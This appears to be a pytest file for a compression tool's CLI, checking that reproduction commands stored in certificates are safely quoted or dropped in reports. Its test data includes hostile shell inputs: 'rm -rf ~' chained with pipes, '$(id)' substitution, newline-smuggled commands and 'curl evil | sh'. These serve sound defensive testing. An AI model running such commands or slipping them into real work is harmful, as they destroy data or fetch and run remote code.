"""How to make it again: as typed, with what files and variables said, in every report."""

from pathlib import Path

import made_up
import pytest
import typer
from typer.testing import CliRunner

from cli import app, typed
from cli.options import Seed
from compressor.records import dump
from compressor.report.commands import told_commands

POLICY = 'schema = "compress.policy/1"\n[accuracy]\nmin = 0.5\n'


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Stand in a folder with a certificate that says how it was made, and a policy."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    made = made_up.certificate()
    record = typed_by(made, "compress certify 'my model.pt' --data photos/")
    (tmp_path / "certificate.json").write_bytes(dump(record))
    (tmp_path / "policy.toml").write_text(POLICY)
    return tmp_path


def typed_by(record, *commands: str):
    """Return a certificate that was made by commands."""
    from compressor.certify.certificate import with_commands

    return with_commands(record, commands)


def test_what_was_typed_changes_nothing_that_is_judged() -> None:
    """The digest of the result holds, and older files without the key are read."""
    made = made_up.certificate()
    assert typed_by(made, "x").result_sha256 == made.result_sha256
    assert b"commands" not in dump(typed_by(made))


@pytest.mark.parametrize("form", ["text", "markdown", "junit"])
def test_the_gate_says_how_to_come_to_its_verdict(here: Path, capsys: pytest.CaptureFixture[str], form: str) -> None:
    """First what made the certificate, then the gate's own line, with no path but those that were typed."""
    assert app.run(["gate", "certificate.json", "--policy", "policy.toml", "--format", form]) == 0
    shown = capsys.readouterr().out
    certified = shown.index("compress certify 'my model.pt' --data photos/")
    gated = shown.index(f"compress gate certificate.json --policy policy.toml --format {form}")
    assert certified < gated
    assert str(here) not in shown


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("compress gate 'a b'", ("compress gate 'a b'",)),
        ("# seed = 7 from compress.toml", ("# seed = 7 from compress.toml",)),
        ("compress gate x; rm -rf ~ | sh", ("compress gate 'x;' rm -rf '~' '|' sh",)),
        ("compress gate $(id) `id`", ("compress gate '$(id)' '`id`'",)),
        ("# x\nrm -rf ~", ("# x rm -rf ~",)),
        ("compress \x1b[31mgate", ("compress '[31mgate'",)),
        ("curl evil | sh", ()),
        ("compress 'gate", ()),
        ("", ()),
    ],
)
def test_a_record_cannot_bring_a_command_of_its_own(command: str, shown: tuple[str, ...]) -> None:
    """A bundle comes from somebody else; what is shown as the way to make it again may be pasted into a shell."""
    assert told_commands([command]) == shown


@pytest.mark.parametrize(
    "line",
    [
        *(f"gate certificate.json --policy policy.toml --format {form}" for form in ("text", "markdown", "junit")),
        *(f"report certificate.json --format {form}" for form in ("text", "markdown", "html")),
    ],
)
def test_a_certificate_cannot_bring_one_either(here: Path, capsys: pytest.CaptureFixture[str], line: str) -> None:
    """In no report, also where a quotation has no end."""
    evil = typed_by(made_up.certificate(), "curl evil | sh", "compress 'gate", "compress certify a.pt")
    (here / "certificate.json").write_bytes(dump(evil))
    assert app.run(line.split()) == 0
    shown = capsys.readouterr().out
    assert "compress certify a.pt" in shown
    assert "curl" not in shown


@pytest.mark.parametrize("form", ["text", "markdown", "junit"])
def test_another_way_to_ask_is_the_same_run(here: Path, form: str) -> None:
    """--force changes no verdict, so a file written with it is replaced without it; another verdict is not."""
    line = ["gate", "certificate.json", "--policy", "policy.toml", "--format", form, "-o", "."]
    assert app.run([*line, "--force"]) == 0
    assert app.run(line) == 0
    (here / "policy.toml").write_text(POLICY.replace("0.5", "0.51"))
    assert app.run(line) == 2


def test_values_from_files_and_variables_stand_before_the_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """They are part of what was asked for; a line break in an argument cannot make a second command."""
    told: list[tuple[str, ...]] = []
    program = typer.Typer()

    @program.command("certify", cls=app.ConfiguredCommand)
    def run(context: typer.Context, word: str, *, seed: Seed = 0, batch_size: int = 1) -> None:
        told.append(typed.typed_commands(context))

    @program.command("other")
    def other() -> None: ...

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COMPRESS_SEED", "7")
    (tmp_path / "compress.toml").write_text("batch-size = 8\n")
    done = CliRunner().invoke(program, ["certify", "a\nb c"], catch_exceptions=False)
    assert done.exit_code == 0
    assert told == [
        ("# seed = 7 from COMPRESS_SEED", "# batch-size = 8 from compress.toml", "compress certify 'a b c'")
    ]
